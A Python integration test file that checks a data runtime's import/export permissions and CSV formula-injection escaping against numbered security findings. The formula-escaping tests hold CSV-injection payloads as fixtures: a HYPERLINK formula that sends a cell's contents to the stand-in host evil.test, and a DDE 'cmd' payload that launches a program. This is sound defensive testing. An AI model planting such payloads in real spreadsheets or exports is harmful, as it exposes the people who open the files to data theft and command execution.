"""The permission gate on the runtime's import and export paths, and safe CSV, over HTTP (security issue).

Demo users: user@demo.local reads, creates and updates companies but never sees `taxId` and may only
read `rating`, and does everything with contacts; sub@demo.local only reads contacts, without `email`,
and has no permission on companies at all.
"""

from __future__ import annotations

import csv
import io
import uuid
from urllib.parse import quote

from tests.integration.stack import Api
from tests.integration.test_runtime_actions import finished
from tests.integration.test_runtime_data import BROWSEZOOM, call, error, ok
from tests.integration.test_runtime_import_export import download, upload
from tests.integration.test_tasks import DEMO, TASKS, csv_body, numbers, put_csv, run


def tag() -> str:
    return uuid.uuid4().hex[:8]


def test_finding_2_a_contacts_import_never_writes_hidden_or_read_only_company_fields(
    api: Api, dev: str, user: str, sub: str
) -> None:
    # Given Browsezoom's tax id (hidden to the user) and rating (read only to it)
    before = ok(api, "GET", f"/data/companies/{BROWSEZOOM}", dev)
    mark = tag()
    rows = "firstName,lastName,company.name,company.taxId,company.rating\n"
    rows += f"Eve,M{mark},Browsezoom,EVIL-{mark},0.1\nEva,M{mark},New {mark},EVIL-{mark},0.2\n"

    # When the user imports contacts with those related columns
    status, ref = upload(api, "/data/contacts/import", user, rows.encode(), filename="contacts.csv")
    assert status == 200, ref
    job = finished(api, dev, ref)

    # Then the contacts are imported and linked, and no company field the user may not write is written
    assert (job["status"], job["results"]) == ("FINISHED", {"rowsImported": 2, "rowsWithErrors": 0}), job
    after = ok(api, "GET", f"/data/companies/{BROWSEZOOM}", dev)
    assert (after["taxId"], after["rating"], after["version"]) == (before["taxId"], before["rating"], before["version"])
    created = ok(api, "GET", f"/data/companies?name={quote(f'New {mark}')}", dev)["items"]
    assert len(created) == 1 and "taxId" not in created[0] and "rating" not in created[0], created
    linked = ok(api, "GET", f"/data/contacts?lastName=M{mark}&_fields=firstName,company", dev)["items"]
    assert sorted((c["firstName"], c["company"]["label"]) for c in linked) == [
        ("Eva", f"New {mark}"),
        ("Eve", "Browsezoom"),
    ]

    # A user without any permission on companies (sub also may not create contacts) is refused in the request
    status, answer = upload(api, "/data/contacts/import", sub, f"company.name\nSub {mark}\n".encode())
    error(status, answer, 403, "forbidden")
    assert ok(api, "GET", f"/data/companies?name={quote(f'Sub {mark}')}", dev)["total"] == 0


def test_finding_3_an_export_never_reads_related_fields_the_caller_may_not_read(
    api: Api, dev: str, user: str, sub: str
) -> None:
    # Given a contact of Browsezoom, whose tax id the user may not read
    mark = tag()
    ok(api, "POST", "/data/contacts", dev, {"firstName": "Exp", "lastName": f"X{mark}", "company": BROWSEZOOM})
    tax_id = ok(api, "GET", f"/data/companies/{BROWSEZOOM}", dev)["taxId"]
    wanted = f"/data/contacts/export?lastName=X{mark}&_fields=firstName,company.name,company.taxId"

    # When the user exports it with the tax id among the fields, it is left out (as a listing's _fields does)
    status, ref = call(api, "PUT", wanted, user)
    assert status == 200, ref
    job = finished(api, dev, ref)
    assert job["status"] == "FINISHED", job
    lines = download(api, job["results"]["fileLink"], dev)
    assert lines == [["firstName", "company.name"], ["Exp", "Browsezoom"]]
    assert tax_id not in str(lines)
    error(*call(api, "PUT", "/data/contacts/export?_fields=company.taxId", user), 400, "validationErrors")

    # sub may read contacts but no company: nothing is read through the relationship (its label stays)
    status, ref = call(api, "PUT", wanted.replace("company.name,", "company,company.name,"), sub)
    assert status == 200, ref
    lines = download(api, finished(api, dev, ref)["results"]["fileLink"], dev)
    assert lines == [["firstName", "company"], ["Exp", "Browsezoom"]]


def test_finding_9_an_export_escapes_cells_a_spreadsheet_would_run(api: Api, dev: str) -> None:
    mark = tag()
    risky = {f'=HYPERLINK("http://evil.test/?"&A1,"{mark}")': "@SUM(1+1)", f"-2+3 {mark}": "+cmd|' /C calc'!A0"}
    for name, notes in risky.items():
        ok(api, "POST", "/data/companies", dev, {"name": name, "notes": notes, "numberOfEmployees": -5})
    query = f"/data/companies/export?name=like({mark})&_fields=name,notes,numberOfEmployees"

    def exported(extra: str = "") -> list[list[str]]:
        status, ref = call(api, "PUT", query + extra, dev)
        assert status == 200, ref
        job = finished(api, dev, ref)
        assert job["status"] == "FINISHED", job
        return sorted(download(api, job["results"]["fileLink"], dev)[1:])

    # Text that starts like a formula gets a leading quote; a negative number stays a number
    assert exported() == sorted([["'" + name, "'" + notes, "-5"] for name, notes in risky.items()])
    # `_formulaSafe=false` writes the cells as they are
    assert exported("&_formulaSafe=false") == sorted([[name, notes, "-5"] for name, notes in risky.items()])
    error(*call(api, "PUT", query + "&_formulaSafe=maybe", dev), 400, "validationErrors")


def test_finding_9_a_task_output_escapes_cells_a_spreadsheet_would_run(api: Api, dev: str) -> None:
    auth = {"X-Auth-Token": dev}
    fresh = numbers(1)[0]
    body = csv_body(["number", "account_id"], [[fresh, DEMO], ["=1+2", DEMO], ["@SUM(A1)", DEMO]])
    created = put_csv(api, auth, "category=number_management&action=add", body)
    assert created.status == 200, created.body
    path = f"{TASKS}/{created.json()['data']['_read_only']['id']}"
    assert run(api, auth, path)["status"] == "partial"
    output = csv.DictReader(io.StringIO(api.call("GET", f"{path}/output", headers=auth).body.decode()))
    assert [(r["number"], r["error"]) for r in output] == [
        (fresh, ""),
        ("'=1+2", "bad number"),
        ("'@SUM(A1)", "bad number"),
    ]
